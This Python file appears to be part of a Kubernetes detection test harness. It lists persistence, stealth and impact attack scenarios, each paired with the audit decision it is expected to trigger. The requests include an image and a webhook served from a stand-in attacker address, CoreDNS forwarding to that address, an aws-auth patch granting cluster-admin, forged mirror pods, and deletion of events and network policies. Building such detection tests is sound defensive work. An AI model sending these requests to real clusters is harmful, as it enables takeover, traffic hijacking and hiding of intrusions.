"""Persistence and workload changes (catalogue E), stealth, impairment and impact (catalogue G)."""

import json

from cluster import objects
from cluster.actors import Client
from cluster.scenarios.attacks.moves import (
    ADMISSION,
    APPS,
    BATCH,
    NETWORKING,
    NODE,
    RBAC,
    SYSTEM,
    Attack,
    Move,
    V,
    delete,
    get,
    patch,
    post,
    together,
)
from cluster.script import Decides

SIDECAR = {"spec": {"template": {"spec": {"containers": [{"name": "helper", "image": "203.0.113.66:5000/helper:1"}]}}}}
EVERYTHING = {"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"], "operations": ["*"]}
MIRROR = {"kubernetes.io/config.mirror": "0123456789abcdef", "kubernetes.io/config.source": "file"}


def webhook(name: str, policy: str = "Ignore", **more: object) -> objects.Document:
    """Describe a mutating webhook for everything, at an address that answers nobody."""
    hook = {
        "name": f"{name}.example.net",
        "clientConfig": {"url": "https://203.0.113.66:8443/mutate"},
        "rules": [EVERYTHING],
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
        "failurePolicy": policy,
        "timeoutSeconds": 1,
        # It must not be asked in this laboratory: it selects a label that nothing has.
        "objectSelector": {"matchLabels": {"never": "set"}},
        **more,
    }
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": name},
        "webhooks": [hook],
    }


def daemon_set(name: str, namespace: str) -> objects.Document:
    """Describe a daemon set."""
    document = objects.deployment(name, namespace)
    spec = document["spec"]
    assert isinstance(spec, dict)
    kept = {key: value for key, value in spec.items() if key != "replicas"}
    return {**document, "kind": "DaemonSet", "spec": kept}


def mirror_pod(name: str, command: list[str]) -> Move:
    """Create the mirror of a static pod, as a kubelet does for its own node."""

    def act(client: Client) -> None:
        node = json.loads(client.request("GET", "/api/v1/nodes/node-1").output)
        owner = {
            "apiVersion": "v1",
            "kind": "Node",
            "name": "node-1",
            "controller": True,
            "uid": node["metadata"]["uid"],
        }
        head = {"name": f"{name}-node-1", "namespace": "kube-system", "annotations": MIRROR, "ownerReferences": [owner]}
        spec = {"nodeName": "node-1", "hostNetwork": True, "containers": [objects.container(name, command=command)]}
        client.request("POST", f"{SYSTEM}/pods", {"apiVersion": "v1", "kind": "Pod", "metadata": head, "spec": spec})

    return act


ROLE = objects.role("e06", [objects.rule([""], ["pods"], ["get"])], "victim")

ATTACKS = (
    Attack(
        "E01",
        "cron job",
        Decides(("create",), "cronjobs"),
        post(f"{BATCH}/cronjobs", objects.cron_job("beacon", "victim", "*/5 * * * *")),
    ),
    Attack(
        "E02",
        "daemon set",
        Decides(("create",), "daemonsets"),
        post(f"{APPS}/daemonsets", daemon_set("everywhere", "victim")),
    ),
    Attack(
        "E03",
        "deployment made and deleted",
        Decides(("create", "delete"), "deployments"),
        together(
            post(f"{APPS}/deployments", objects.deployment("brief", "victim")), delete(f"{APPS}/deployments/brief")
        ),
    ),
    Attack(
        "E04",
        "sidecar patched in",
        Decides(("patch",), "deployments"),
        patch(f"{APPS}/deployments/web", SIDECAR, "strategic"),
    ),
    Attack(
        "E05",
        "workload changed by somebody new",
        Decides(("patch",), "daemonsets"),
        patch("/apis/apps/v1/namespaces/security/daemonsets/agent", {"metadata": {"annotations": {"seen": "e05"}}}),
    ),
    Attack(
        "E06",
        "rights, then a workload",
        Decides(("create",)),
        together(
            post(f"{RBAC}/namespaces/victim/roles", ROLE),
            post(f"{APPS}/deployments", objects.deployment("e06", "victim")),
        ),
    ),
    Attack(
        "E07", "static pod", Decides(("create",), "pods"), mirror_pod("helper", ["sleep", "inf"]), NODE, level="Request"
    ),
    Attack(
        "E08",
        "pod in a system namespace",
        Decides(("create",), "pods"),
        post(f"{SYSTEM}/pods", objects.pod("telemetry", "kube-system")),
    ),
    Attack(
        "E09",
        "service account in kube-system",
        Decides(("create",), "serviceaccounts"),
        post(
            f"{SYSTEM}/serviceaccounts", {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "helper"}}
        ),
    ),
    Attack(
        "E10",
        "namespace made and deleted",
        Decides(("create", "delete"), "namespaces"),
        together(
            post("/api/v1/namespaces", {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "hideout"}}),
            delete("/api/v1/namespaces/hideout"),
        ),
    ),
    Attack(
        "E11",
        "admission webhook",
        Decides(("create",), "mutatingwebhookconfigurations"),
        post(f"{ADMISSION}/mutatingwebhookconfigurations", webhook("e11")),
    ),
    Attack(
        "E12",
        "controller's service account on a pod",
        Decides(("create",), "pods"),
        post(f"{SYSTEM}/pods", objects.pod("borrowed", "kube-system", serviceAccountName="daemon-set-controller")),
        level="Request",
    ),
    Attack(
        "E13",
        "cloud login map changed",
        Decides(("patch",), "configmaps"),
        patch(
            f"{SYSTEM}/configmaps/aws-auth",
            {"data": {"mapUsers": "- userarn: arn:aws:iam::111122223333:user/e13\n  groups: [system:masters]\n"}},
        ),
    ),
    Attack(
        "E14",
        "service and ConfigMap made and deleted",
        Decides(("create", "delete")),
        together(
            post(f"{V}/services", objects.service("e14", "victim")),
            delete(f"{V}/services/e14"),
            post(f"{V}/configmaps", objects.config_map("e14", "victim", {})),
            delete(f"{V}/configmaps/e14"),
        ),
    ),
    Attack(
        "E15",
        "node that nobody listed",
        Decides(("create",), "nodes"),
        post("/api/v1/nodes", {"apiVersion": "v1", "kind": "Node", "metadata": {"name": "rogue-node"}}),
    ),
    Attack(
        "G01",
        "events deleted",
        Decides(("delete", "deletecollection"), "events"),
        together(get(f"{V}/events"), delete(f"{V}/events")),
    ),
    Attack(
        "G02",
        "CoreDNS changed",
        Decides(("patch",), "configmaps"),
        patch(f"{SYSTEM}/configmaps/coredns", {"data": {"Corefile": ".:53 { forward . 203.0.113.66 }"}}),
    ),
    Attack(
        "G03",
        "network policy changed and deleted",
        Decides(("patch", "delete"), "networkpolicies"),
        together(
            patch(f"{NETWORKING}/networkpolicies/default-deny", {"spec": {"ingress": [{}]}}),
            delete(f"{NETWORKING}/networkpolicies/default-deny"),
        ),
    ),
    Attack(
        "G04",
        "pods deleted",
        Decides(("delete", "deletecollection"), "pods"),
        together(delete(f"{V}/pods/web-2"), delete(f"{V}/pods?labelSelector=app=batch")),
    ),
)
